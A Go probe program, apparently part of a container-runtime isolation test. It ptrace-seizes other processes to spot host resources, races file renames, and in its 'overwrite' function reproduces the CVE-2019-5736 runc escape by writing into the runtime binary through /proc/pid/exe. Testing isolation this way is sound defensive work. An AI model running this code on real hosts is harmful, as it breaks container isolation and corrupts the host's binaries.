package main

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// others are the processes that probe sees but itself.
func others() []int {
	names, err := filepath.Glob("/proc/[0-9]*")
	if err != nil {
		return nil
	}
	var pids []int
	for _, name := range names {
		if pid, err := strconv.Atoi(filepath.Base(name)); err == nil && pid != os.Getpid() {
			pids = append(pids, pid)
		}
	}
	return pids
}

// plain are the programs of the test's images.
var plain = []string{"/bin/busybox", "/bin/probe"}

// spy seizes each process that it sees by ptrace(2) and says, a line each, what
// it finds there that is not the container's own. The last line says how many
// were seized and how often that was refused.
func spy(out io.Writer, stop string) error {
	runtime.LockOSThread() // a tracer is a thread
	seized, refused := 0, 0
	for !there(stop) {
		for _, pid := range others() {
			if err := unix.PtraceSeize(pid); err != nil {
				if err == unix.EPERM {
					refused++
				}
				continue
			}
			seized++
			look(out, pid)
			_ = unix.PtraceInterrupt(pid) // it may have ended, which shows as well
			_, _ = unix.Wait4(pid, nil, unix.WALL, nil)
			_ = unix.PtraceDetach(pid)
		}
	}
	_, err := fmt.Fprintln(out, "seized", seized, "refused", refused)
	return err
}

// hold seizes the processes named /bin/sleep, creates the file held, and never
// takes note of their end.
func hold(held, stop string) error {
	runtime.LockOSThread()
	for !there(stop) {
		for _, pid := range others() {
			argv, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
			if err != nil || !strings.HasPrefix(string(argv), "/bin/sleep\x00") || unix.PtraceSeize(pid) != nil {
				continue
			}
			if err := os.WriteFile(held, nil, 0o600); err != nil {
				return err
			}
		}
	}
	return nil
}

func look(out io.Writer, pid int) {
	dir := fmt.Sprintf("/proc/%d/", pid)
	// an end, or an exec, in between shows as an empty link
	if exe, err := os.Readlink(dir + "exe"); err == nil && !slices.Contains(plain, exe) {
		fmt.Fprintln(out, "exe", exe)
	}
	for _, name := range []string{"cwd", "root"} {
		if to, err := os.Readlink(dir + name); err == nil && to != "/" {
			fmt.Fprintln(out, name, to)
		}
	}
	files, err := os.ReadDir(dir + "fd")
	if err != nil {
		return
	}
	for _, f := range files {
		to, err := os.Readlink(dir + "fd/" + f.Name())
		if err != nil || slices.Contains([]string{"0", "1", "2"}, f.Name()) {
			continue
		}
		if !strings.HasPrefix(to, "/proc") && !strings.HasPrefix(to, "pipe:") && !strings.HasPrefix(to, "anon_inode:") {
			fmt.Fprintln(out, "fd", f.Name(), to)
		}
	}
}

// overwrite is CVE-2019-5736: it takes hold of the program of each process that
// is not one of the image's, and writes to it as soon as that is possible.
func overwrite(out io.Writer, stop string) error {
	for !there(stop) {
		for _, pid := range others() {
			name := fmt.Sprintf("/proc/%d/exe", pid)
			fd, err := unix.Open(name, unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			self := fmt.Sprintf("/proc/self/fd/%d", fd)
			if to, err := os.Readlink(self); err == nil && !slices.Contains(plain, to) {
				fmt.Fprintln(out, "held", to)
				scribble(out, self, to)
			}
			_ = unix.Close(fd)
		}
	}
	_, err := fmt.Fprintln(out, "done")
	return err
}

// scribble writes to what a descriptor names, which is busy while it runs.
func scribble(out io.Writer, self, to string) {
	for range 1000 {
		fd, err := unix.Open(self, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err == unix.ETXTBSY {
			continue
		}
		if err != nil {
			return
		}
		if _, err := unix.Write(fd, []byte("#!/bin/sh\n")); err == nil {
			fmt.Fprintln(out, "wrote", to)
		}
		_ = unix.Close(fd)
		return
	}
}

// swap exchanges two names over and over.
func swap(a, b, stop string) error {
	for !there(stop) {
		for range 100 {
			if err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE); err != nil {
				return err
			}
		}
	}
	return nil
}
